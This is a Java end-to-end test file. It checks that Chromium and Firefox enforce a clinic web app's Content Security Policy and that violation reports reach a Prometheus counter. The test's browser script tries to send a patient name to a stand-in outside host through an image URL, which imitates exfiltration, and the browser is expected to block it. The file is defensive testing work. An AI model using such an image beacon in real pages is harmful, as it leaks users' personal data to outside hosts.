package health.consilium.e2e;

import static health.consilium.e2e.server.Someone.HADDAD;
import static health.consilium.e2e.server.Someone.ROSSI;
import static org.assertj.core.api.Assertions.assertThat;

import health.consilium.e2e.browser.Person;
import java.io.IOException;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** SAFETY 2.5: a real browser refuses what our policy forbids, and tells us. */
@Pages
class ViolationReportTests {
    private static final String TOKEN = "only-for-tests-0123456789";
    private static final Duration LIMIT = Duration.ofSeconds(20);

    @RegisterExtension
    static final Clinic clinic = Clinic.with(Map.of("consilium.identity.metrics-token", TOKEN));

    private final HttpClient http = HttpClient.newHttpClient();

    @Test
    @DisplayName("Chromium reports a picture of somebody else's")
    void chromium() {
        report(clinic.signedIn(ROSSI));
    }

    @Test
    @DisplayName("Firefox reports it, too")
    void firefox() {
        report(clinic.comesWithFirefox(HADDAD).signsIn());
    }

    private void report(Person person) {
        double before = counted();
        Object refused = person.page().evaluate("""
                () => new Promise((seen) => {
                  document.addEventListener("securitypolicyviolation", (e) => seen(e.effectiveDirective));
                  new Image().src = "http://elsewhere.invalid/x.png?name=Rossi";
                })""");
        assertThat(refused).isEqualTo("img-src");
        Await.until("the report arrives", LIMIT, () -> counted() > before);
    }

    private double counted() {
        HttpRequest scrape = HttpRequest.newBuilder(clinic.server().address().resolve("/actuator/prometheus"))
                .header("Authorization", "Bearer " + TOKEN)
                .build();
        try {
            return http.send(scrape, BodyHandlers.ofString())
                    .body()
                    .lines()
                    .filter(line -> line.startsWith("consilium_csp_violations_total{directive=\"img-src\"}"))
                    .mapToDouble(line -> Double.parseDouble(line.substring(line.lastIndexOf(' '))))
                    .sum();
        } catch (IOException e) {
            throw new AssertionError(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError(e);
        }
    }
}
